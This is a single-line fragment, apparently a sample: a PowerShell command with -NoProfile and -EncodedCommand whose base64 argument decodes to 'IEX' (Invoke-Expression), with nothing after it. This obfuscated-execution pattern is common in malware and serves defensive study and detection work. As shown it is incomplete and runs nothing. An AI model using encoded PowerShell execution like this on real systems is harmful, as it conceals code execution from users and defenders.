powershell -NoProfile -EncodedCommand SQBFAFgA
